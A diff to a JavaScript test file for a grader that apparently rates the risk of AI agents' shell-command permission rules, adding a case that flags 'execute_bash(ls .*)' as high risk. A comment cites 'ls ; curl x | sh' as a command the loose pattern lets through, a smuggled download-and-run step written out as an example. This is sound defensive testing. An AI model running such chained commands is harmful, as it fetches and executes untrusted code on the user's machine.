@@ -52,6 +52,8 @@ describe("gradeTool", () => {
     expect(grade("run_shell_command(node --version)", { match: "prefix" })).toBe("high");
     expect(grade("execute_bash(ls -la)", { match: "regex" })).toBe("medium");
     expect(grade("execute_bash(ls (-la)?)", { match: "regex" })).toBe("high");
+    // Amazon Q matches its anchored pattern against the whole line: `.*` also matches `ls ; curl x | sh`.
+    expect(grade("execute_bash(ls .*)", { match: "regex" })).toBe("high");
   });
 
   it("a rule that cannot be read is high, not a crash", () => {
